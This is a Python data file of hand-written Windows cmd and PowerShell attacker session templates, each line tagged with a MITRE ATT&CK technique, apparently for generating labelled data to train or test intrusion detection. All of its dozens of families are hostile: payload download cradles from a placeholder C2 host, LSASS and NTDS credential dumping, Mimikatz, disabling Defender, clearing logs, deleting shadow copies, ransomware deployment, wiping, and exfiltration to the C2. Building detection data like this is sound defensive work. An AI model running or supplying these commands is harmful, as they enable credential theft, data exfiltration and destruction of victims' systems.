"""Hand-written Windows (cmd / PowerShell) attacker session templates for make_sessions.py: one family per template.
Same template language and labelling rules as sessions_linux.py. Command lines are typed the way they are seen in
process-creation logs of hands-on-keyboard intrusions and ransomware operators: bare built-ins (`whoami`, `net`),
`cmd /c "…"` wrappers (the quoted argument stays one statement, as in the library's splitter) and PowerShell
pipelines. Written for this project; none is copied from a dataset."""

FAMILIES = [
("win-handson-recon", "human", """
T1033 :: whoami /all
T1082 :: systeminfo
T1016 :: ipconfig /all
T1087.002 :: net user /domain
T1069.002 :: net group "Domain Admins" /domain
T1482 :: nltest /dclist:{dom}
"""),
("win-recon-ampersand-chain", "human", """
T1033,T1082,T1016 :: whoami & hostname & ipconfig /all
T1049,T1049 :: netstat -ano | findstr ESTABLISHED
T1057,T1057 :: tasklist /v | findstr /i "{user}"
T1087.001 :: net user
T1069.001 :: net localgroup administrators
"""),
("win-ad-discovery-adfind", "human", """
T1105 :: certutil -urlcache -split -f http://{c2}/AdFind.exe {stage}\\af.exe
T1087.002 :: {stage}\\af.exe -f "(objectcategory=person)" > {stage}\\ad_users.txt
T1018 :: {stage}\\af.exe -f "(objectcategory=computer)" > {stage}\\ad_computers.txt
T1482 :: {stage}\\af.exe -gcb -sc trustdmp > {stage}\\trustdmp.txt
T1069.002 :: {stage}\\af.exe -sc domainlist
T1560.001 :: 7z.exe a -p{pw} {stage}\\ad.7z {stage}\\*.txt
T1070.004 :: del {stage}\\*.txt
"""),
("win-bloodhound-collect", "human", """
T1105 :: powershell -c "iwr http://{c2}/SharpHound.exe -OutFile {stage}\\sh.exe"
T1087.002 :: {stage}\\sh.exe -c All --zipfilename {r}.zip
T1083 :: dir {stage}
T1041 :: powershell -c "Invoke-WebRequest -Uri http://{c2}/u -Method Post -InFile {stage}\\{r}.zip"
T1070.004 :: del /f /q {stage}\\*.zip {stage}\\sh.exe
"""),
("win-lsass-comsvcs", "human", """
T1057 :: tasklist /fi "imagename eq lsass.exe"
T1003.001 :: rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n}2 {stage}\\l.dmp full
T1003.001 :: dir {stage}\\l.dmp
T1560.001 :: 7z.exe a -p{pw} {stage}\\l.7z {stage}\\l.dmp
T1070.004 :: del {stage}\\l.dmp
"""),
("win-lsass-procdump", "human", """
T1105 :: bitsadmin /transfer j /download /priority high http://{c2}/procdump64.exe {stage}\\pd.exe
T1003.001 :: {stage}\\pd.exe -accepteula -ma lsass.exe {stage}\\ls.dmp
T1048.003 :: curl.exe -T {stage}\\ls.dmp ftp://{c2}/ --user x:{pw}
T1070.004 :: del {stage}\\ls.dmp {stage}\\pd.exe
"""),
("win-sam-hive-save", "human", """
T1003.002 :: reg save HKLM\\SAM {stage}\\sam.hiv
T1003.002 :: reg save HKLM\\SYSTEM {stage}\\sys.hiv
T1003.002 :: reg save HKLM\\SECURITY {stage}\\sec.hiv
T1560.001 :: 7z.exe a {stage}\\h.7z {stage}\\*.hiv
T1070.004 :: del {stage}\\*.hiv
"""),
("win-ntds-ntdsutil", "human", """
T1003.003 :: ntdsutil "ac i ntds" "ifm" "create full {stage}\\ntds" q q
T1083 :: dir {stage}\\ntds\\Active Directory
T1560.001 :: powershell Compress-Archive -Path {stage}\\ntds -DestinationPath {stage}\\n.zip
T1070.004 :: rmdir /s /q {stage}\\ntds
"""),
("win-kerberoast-rubeus", "human", """
T1087.002 :: setspn -T {ad} -Q */*
T1105 :: powershell -c "(New-Object Net.WebClient).DownloadFile('http://{c2}/r.exe','{stage}\\r.exe')"
T1558.003 :: {stage}\\r.exe kerberoast /outfile:{stage}\\h.txt
T1558.003 :: type {stage}\\h.txt
T1070.004 :: del {stage}\\r.exe {stage}\\h.txt
"""),
("win-mimikatz-interactive", "human", """
T1105 :: certutil -urlcache -f http://{c2}/m.exe {stage}\\m.exe
T1003.001 :: {stage}\\m.exe "privilege::debug" "sekurlsa::logonpasswords" exit
T1550.002 :: {stage}\\m.exe "sekurlsa::pth /user:Administrator /domain:{dom} /ntlm:{r}{r}{r}{r}{r}aa /run:cmd.exe" exit
T1070.004 :: del {stage}\\m.exe
"""),
("win-creds-files-search", "human", """
T1552.001 :: findstr /si password *.xml *.ini *.txt *.config
T1552.001 :: dir /s /b C:\\Users\\*pass*.txt
T1555.004 :: cmdkey /list
T1552.002 :: reg query HKLM /f password /t REG_SZ /s
T1555.003 :: copy "C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" {stage}\\ld.db
"""),
("win-defender-off", "human", """
T1518.001 :: powershell Get-MpComputerStatus
T1685 :: powershell Set-MpPreference -DisableRealtimeMonitoring $true
T1685 :: powershell Add-MpPreference -ExclusionPath "{stage}"
T1685 :: reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
T1686 :: netsh advfirewall set allprofiles state off
"""),
("win-ps-defender-pipeline", "human", """
T1518.001,T1518.001 :: Get-MpComputerStatus | Select-Object AMServiceEnabled,RealTimeProtectionEnabled
T1685 :: Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true
T1685,T1685 :: Get-Service WinDefend | Stop-Service -Force
T1685.005 :: wevtutil cl "Microsoft-Windows-Windows Defender/Operational"
"""),
("win-eventlog-clear", "human", """
T1685.005 :: wevtutil cl System
T1685.005 :: wevtutil cl Security
T1685.005 :: wevtutil cl Application
T1685.005 :: for /F "tokens=*" %1 in ('wevtutil.exe el') DO wevtutil.exe cl "%1"
"""),
("win-ransom-prep", "human", """
T1490 :: vssadmin delete shadows /all /quiet
T1490 :: wmic shadowcopy delete
T1490 :: bcdedit /set {default} recoveryenabled No
T1490 :: bcdedit /set {default} bootstatuspolicy ignoreallfailures
T1490 :: wbadmin delete catalog -quiet
T1489 :: net stop "SQL Server (MSSQLSERVER)" /y
T1489 :: sc config VSS start= disabled
"""),
("win-ransom-deploy-psexec", "human", """
T1135 :: net view \\\\{target} /all
T1570 :: copy {stage}\\{exe} \\\\{target}\\C$\\Windows\\Temp\\{exe}
T1569.002 :: psexec.exe -accepteula \\\\{target} -u {dom}\\{user} -p {pw} -s -d C:\\Windows\\Temp\\{exe}
T1486 :: {stage}\\{exe} -path C:\\ -nolocal
T1491.001 :: notepad C:\\Users\\Public\\README.txt
"""),
("win-persist-run-key", "human", """
T1105 :: powershell -c "iwr http://{c2}/{exe} -OutFile $env:APPDATA\\{exe}"
T1547.001 :: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "%APPDATA%\\{exe}" /f
T1012 :: reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run
"""),
("win-persist-schtask", "human", """
T1053.005 :: schtasks /create /tn "{task}" /tr "{stage}\\{exe}" /sc onlogon /ru SYSTEM /f
T1053.005 :: schtasks /query /tn "{task}"
T1053.005@execution :: schtasks /run /tn "{task}"
"""),
("win-persist-service", "human", """
T1543.003 :: sc create {svc} binPath= "{stage}\\{exe}" start= auto DisplayName= "{svc}"
T1543.003 :: sc description {svc} "Provides system health updates"
T1543.003 :: sc start {svc}
T1007 :: sc query {svc}
"""),
("win-persist-local-admin", "human", """
T1136.001 :: net user {newuser} {pw} /add
T1098 :: net localgroup administrators {newuser} /add
T1098 :: net localgroup "Remote Desktop Users" {newuser} /add
T1564.002 :: reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v {newuser} /t REG_DWORD /d 0 /f
"""),
("win-persist-wmi-subscription", "human", """
T1546.003 :: powershell -c "$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='upd';EventNameSpace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ''Win32_PerfFormattedData_PerfOS_System'''}"
T1546.003 :: powershell -c "Get-WmiObject -Namespace root\\subscription -Class __EventFilter"
"""),
("win-lateral-wmic", "human", """
T1018 :: net view /domain:{dom}
T1047 :: wmic /node:{target} process call create "cmd.exe /c {stage}\\{exe}"
T1047 :: wmic /node:{target} process list brief
"""),
("win-lateral-winrm", "human", """
T1021.006 :: Test-WSMan -ComputerName {target}
T1021.006 :: Invoke-Command -ComputerName {target} -ScriptBlock { hostname; whoami }
T1021.006 :: Enter-PSSession -ComputerName {target}
"""),
("win-lateral-rdp-enable", "human", """
T1021.001 :: reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
T1686 :: netsh advfirewall firewall set rule group="remote desktop" new enable=Yes
T1021.001 :: mstsc /v:{target}
"""),
("win-lateral-admin-share", "human", """
T1021.002 :: net use \\\\{target}\\C$ /user:{dom}\\{user} {pw}
T1570 :: copy {stage}\\{exe} \\\\{target}\\C$\\ProgramData\\
T1053.005@execution :: schtasks /create /s {target} /tn {task} /tr C:\\ProgramData\\{exe} /sc once /st 00:00 /ru SYSTEM
T1053.005@execution :: schtasks /run /s {target} /tn {task}
T1021.002 :: net use \\\\{target}\\C$ /delete
"""),
("win-stage-lolbins", "human", """
T1105 :: certutil.exe -urlcache -split -f http://{c2}/p.b64 {stage}\\p.b64
T1140 :: certutil.exe -decode {stage}\\p.b64 {stage}\\{dll}
T1218.011 :: rundll32.exe {stage}\\{dll},DllRegisterServer
T1070.004 :: del {stage}\\p.b64
"""),
("win-mshta-regsvr32", "human", """
T1218.005 :: mshta http://{c2}/a.hta
T1218.010 :: regsvr32 /s /n /u /i:http://{c2}/f.sct scrobj.dll
T1057 :: tasklist | findstr /i "mshta regsvr32"
"""),
("win-ps-encoded-cradle", "human", """
T1059.001 :: powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://{c2}/{ps1}')"
T1027 :: powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
T1059.001 :: powershell -ep bypass -f {stage}\\{ps1}
"""),
("win-exfil-rclone", "human", """
T1105 :: powershell -c "iwr http://{c2}/rclone.exe -OutFile {stage}\\rc.exe"
T1039 :: dir \\\\{target}\\{share} /s
T1567.002 :: {stage}\\rc.exe copy \\\\{target}\\{share} remote:{r} --transfers 12 -q --ignore-existing --max-age 1y
T1070.004 :: del {stage}\\rc.exe
"""),
("win-collect-share-archive", "human", """
T1135 :: net share
T1135 :: net view \\\\{target}
T1039 :: robocopy \\\\{target}\\{share} {stage}\\s /E /MAXAGE:180
T1560.001 :: "C:\\Program Files\\WinRAR\\rar.exe" a -hp{pw} -m5 {stage}\\s.rar {stage}\\s
T1048.003 :: curl.exe -T {stage}\\s.rar ftp://{c2}/ --user x:{pw}
"""),
("win-collect-outlook", "human", """
T1114.001 :: dir /s /b C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Outlook\\*.ost
T1114.001 :: copy C:\\Users\\{user}\\Documents\\Outlook Files\\*.pst {stage}\\
T1560.001 :: powershell Compress-Archive {stage}\\*.pst {stage}\\m.zip
"""),
("win-remote-tool-anydesk", "human", """
T1105 :: powershell -c "iwr https://download.{domain}/AnyDesk.exe -OutFile {stage}\\AnyDesk.exe"
T1219 :: {stage}\\AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent
T1219,T1219 :: echo {pw} | C:\\ProgramData\\AnyDesk\\AnyDesk.exe --set-password
T1136.001 :: net user {newuser} {pw} /add
"""),
("win-ps-discovery-pipeline", "human", """
T1057,T1057,T1057 :: Get-Process | Sort-Object CPU -Descending | Select-Object -First 10
T1007,T1007 :: Get-Service | Where-Object {$_.Status -eq "Running"}
T1016 :: Get-NetIPConfiguration
T1049,T1049 :: Get-NetTCPConnection -State Established | Select-Object RemoteAddress,RemotePort
T1518,T1518 :: Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName
"""),
("win-domain-policy-recon", "human", """
T1201 :: net accounts /domain
T1069.002 :: net group "Enterprise Admins" /domain
T1018 :: nltest /dclist:{ad}
T1482 :: nltest /domain_trusts /all_trusts
T1124 :: net time \\\\{dc}
"""),
("win-tunnel-plink", "human", """
T1105 :: certutil -urlcache -f http://{c2}/plink.exe {stage}\\p.exe
T1572,T1572 :: echo y | {stage}\\p.exe -ssh -l x -pw {pw} -R {port}:127.0.0.1:3389 {c2}
T1049,T1049 :: netstat -ano | findstr {port}
"""),
("win-uac-bypass-fodhelper", "human", """
T1548.002 :: reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "{stage}\\{exe}" /f
T1548.002 :: reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f
T1548.002 :: fodhelper.exe
T1548.002 :: reg delete HKCU\\Software\\Classes\\ms-settings /f
"""),
("win-cmd-wrapper-recon", "bot", """
T1033 :: cmd.exe /c "whoami /priv"
T1082 :: cmd.exe /c "systeminfo | findstr /B /C:\\"OS Name\\" /C:\\"OS Version\\""
T1016 :: cmd.exe /c "ipconfig /all & route print"
T1087.002 :: cmd.exe /c "net user /domain"
"""),
("win-webshell-iis", "web", """
T1033 :: cmd.exe /c whoami
T1083 :: cmd.exe /c dir C:\\inetpub\\wwwroot
T1505.003 :: cmd.exe /c echo ^<%@ Page Language="C#" %^> > C:\\inetpub\\wwwroot\\aspnet_client\\{r}.aspx
T1003.001 :: cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full
"""),
("win-printnightmare-lpe", "human", """
T1007 :: sc query spooler
T1105 :: certutil -urlcache -f http://{c2}/{dll} {stage}\\{dll}
T1068 :: powershell -ep bypass -c "Import-Module {stage}\\cve.ps1; Invoke-Nightmare -DLL {stage}\\{dll}"
T1033 :: whoami
T1098 :: net localgroup administrators
"""),
("win-potato-lpe", "human", """
T1033 :: whoami /priv
T1105 :: powershell -c "iwr http://{c2}/GodPotato.exe -OutFile {stage}\\gp.exe"
T1134.001 :: {stage}\\gp.exe -cmd "cmd /c whoami"
T1134.001 :: {stage}\\gp.exe -cmd "net user {newuser} {pw} /add"
T1098 :: net localgroup administrators {newuser} /add
"""),
("win-service-binpath-hijack", "human", """
T1007 :: sc qc «VulnSvc|UpdaterSvc|BackupAgent»
T1574.011 :: sc config «VulnSvc|UpdaterSvc|BackupAgent» binpath= "cmd /c net localgroup administrators {user} /add"
T1574.011 :: sc stop «VulnSvc|UpdaterSvc|BackupAgent»
T1574.011 :: sc start «VulnSvc|UpdaterSvc|BackupAgent»
T1069.001 :: net localgroup administrators
"""),
("win-exfil-mega-cmd", "human", """
T1083 :: dir /s /b \\\\{target}\\{share}\\*.xlsx
T1560.001 :: 7z.exe a -mx9 -p{pw} {stage}\\d.7z \\\\{target}\\{share}
T1567.002 :: mega-put {stage}\\d.7z /{r}/
T1070.004 :: del {stage}\\d.7z
"""),
("win-exfil-ps-post", "human", """
T1119 :: Get-ChildItem C:\\Users\\{user}\\Documents -Include *.docx,*.pdf -Recurse | Copy-Item -Destination {stage}\\c
T1560.001 :: Compress-Archive -Path {stage}\\c -DestinationPath {stage}\\c.zip
T1041 :: Invoke-RestMethod -Uri http://{c2}/u -Method Post -InFile {stage}\\c.zip
T1070.004 :: Remove-Item {stage}\\c,{stage}\\c.zip -Recurse -Force
"""),
("win-exfil-bitsadmin-upload", "human", """
T1560.001 :: makecab {stage}\\ad.txt {stage}\\ad.cab
T1048.003 :: bitsadmin /transfer up /upload /priority normal http://{c2}/ad.cab {stage}\\ad.cab
T1070.004 :: del {stage}\\ad.cab {stage}\\ad.txt
"""),
("win-ransom-gpo-deploy", "human", """
T1484.001 :: New-GPO -Name "Windows Update Policy" | New-GPLink -Target "DC={dom},DC=local"
T1484.001 :: Set-GPRegistryValue -Name "Windows Update Policy" -Key "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" -ValueName upd -Type String -Value "\\\\{dc}\\NETLOGON\\{exe}"
T1570 :: copy {stage}\\{exe} \\\\{dc}\\NETLOGON\\{exe}
T1486 :: Invoke-GPUpdate -Computer {target} -Force
"""),
("win-ransom-stop-backup-av", "human", """
T1489 :: net stop "Veeam Backup Service" /y
T1489 :: net stop "Sophos Agent" /y
T1489 :: taskkill /F /IM sqlservr.exe
T1490 :: vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
T1490 :: wbadmin delete systemstatebackup -keepversions:0
T1486 :: {stage}\\{exe} --encrypt C:\\ D:\\
"""),
("win-wipe-and-reboot", "human", """
T1485 :: cipher /w:C:\\Users
T1561.001 :: format D: /FS:NTFS /Q /Y
T1529 :: shutdown /r /t 0 /f
"""),
("win-account-lockout-impact", "human", """
T1531 :: net user Administrator {pw}
T1531 :: net user {user} /active:no /domain
T1531 :: Get-ADUser -Filter * | Set-ADAccountPassword -NewPassword (ConvertTo-SecureString "{pw}" -AsPlainText -Force) -Reset
"""),
("win-persist-startup-folder", "human", """
T1105 :: powershell -c "iwr http://{c2}/{exe} -OutFile '$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{exe}'"
T1547.001 :: dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
T1564.001 :: attrib +h +s "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{exe}"
"""),
("win-disc-quick-triage-ps", "human", """
T1033 :: $env:USERNAME
T1082 :: Get-ComputerInfo | Select-Object CsName,OsName,OsVersion
T1087.001 :: Get-LocalUser
T1069.001 :: Get-LocalGroupMember Administrators
T1518.001 :: Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct
"""),
("win-token-runas-netonly", "human", """
T1134.002 :: runas /netonly /user:{dom}\\{user} cmd.exe
T1021.002 :: dir \\\\{target}\\C$
T1039 :: copy \\\\{target}\\{share}\\*.kdbx {stage}\\
"""),
("win-c2-cloudflared", "human", """
T1105 :: powershell -c "iwr https://github.example.com/cloudflared-windows-amd64.exe -OutFile {stage}\\cf.exe"
T1572 :: {stage}\\cf.exe tunnel --url rdp://localhost:3389
T1049,T1049 :: netstat -ano | findstr :3389
"""),
]
